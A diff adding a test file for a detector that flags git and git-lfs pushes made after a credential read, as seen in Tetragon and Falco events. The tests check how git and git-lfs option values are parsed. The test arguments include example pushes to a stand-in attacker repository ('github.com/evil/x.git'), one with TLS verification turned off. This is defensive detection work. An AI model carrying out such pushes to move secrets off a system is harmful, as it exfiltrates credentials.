@@ -1,0 +1,69 @@
+/**
+ * git options read with the wrong arity (detection gaps listed after session 16): `git push
+ * --recurse-submodules check URL` took `check` for the remote (git takes it for the option's value), `git push
+ * --repo URL` named no destination though git pushes there, and standalone `git-lfs push -ad` (pflag's bundle
+ * of `--all` and `--dry-run`) was a push. Each from Tetragon and Falco events alike.
+ */
+import { describe, expect, it } from 'vitest';
+import { PUSH_IP as IP, secretThenPush } from './secret-then-push.js';
+
+/** The alerts `binary args` raises after a credential read, with their remote. */
+function afterSecret(binary: string, args: string, source: 'tetragon' | 'falco') {
+  return secretThenPush(binary, args, source).map((a) => ({
+    rule: a.rule,
+    tool: a.push.tool,
+    destination: a.push.destination,
+    remote: a.push.remote,
+  }));
+}
+
+const URL = 'https://github.com/evil/x.git';
+const gitPush = (remote: string | null = URL, destination = 'github.com') => [
+  { rule: 'sensitive-read-then-push', tool: 'git', destination, remote },
+];
+
+describe('option values read as the tools read them', () => {
+  for (const source of ['tetragon', 'falco'] as const) {
+    it(`git push --recurse-submodules takes the next word as its value, by any prefix (${source})`, () => {
+      for (const args of [
+        `push --recurse-submodules check ${URL} main`,
+        `push --recurse-submodules on-demand ${URL} main`,
+        `push --recurse-submodules only ${URL}`,
+        `push --recurse-submodules no ${URL} HEAD`,
+        `push --recurse-sub check ${URL} main`,
+        `push --recu=on-demand ${URL} main`,
+        // The negation takes no value: `check` is the remote then (git's own parse).
+        `push --no-recurse-submodules ${URL} main`,
+        // Optional values only after `=`: the next word is the remote.
+        `push --force-with-lease ${URL} main`,
+        `push --force-with-lease=main:abc123 ${URL} main`,
+        `push --signed ${URL} main`,
+      ])
+        expect(afterSecret('/usr/bin/git', args, source), args).toEqual(gitPush());
+    });
+
+    it(`git push --repo names the repository when no positional does (${source})`, () => {
+      for (const args of [`push --repo ${URL}`, `push --repo=${URL}`, `push --rep ${URL}`, `push -f --repo ${URL}`])
+        expect(afterSecret('/usr/bin/git', args, source), args).toEqual(gitPush());
+      // A repository argument wins over --repo, as in git.
+      expect(afterSecret('/usr/bin/git', `push --repo https://gitlab.com/acme/a.git ${URL}`, source)).toEqual(
+        gitPush(),
+      );
+      // A remote's name: the destination is the first connect's, as for `git push origin`.
+      expect(afterSecret('/usr/bin/git', 'push --repo=origin', source)).toEqual(gitPush('origin', `${IP}:443`));
+      expect(afterSecret('/usr/bin/git', `push --repo ${URL} --no-repo`, source)).toEqual(gitPush(null, `${IP}:443`));
+    });
+
+    it(`git-lfs push bundles pflag short flags: -ad is a dry run (${source})`, () => {
+      for (const args of ['push -ad origin main', 'push -da origin', 'push -d=true origin'])
+        expect(afterSecret('/usr/bin/git-lfs', args, source), args).toEqual([]);
+      for (const args of ['push -a origin main', 'push -ad=false origin main', 'push -o origin 4d7a2146'])
+        expect(afterSecret('/usr/bin/git-lfs', args, source), args).toEqual(gitPush('origin', `${IP}:443`));
+      // Run as `git lfs push`: git-lfs's options, not git push's (`-o` is its boolean `--object-id`).
+      expect(afterSecret('/usr/bin/git', 'lfs push -ad origin main', source)).toEqual([]);
+      expect(afterSecret('/usr/bin/git', `-c http.sslVerify=false lfs push -o ${URL} 4d7a2146`, source)).toEqual(
+        gitPush(),
+      );
+    });
+  }
+});
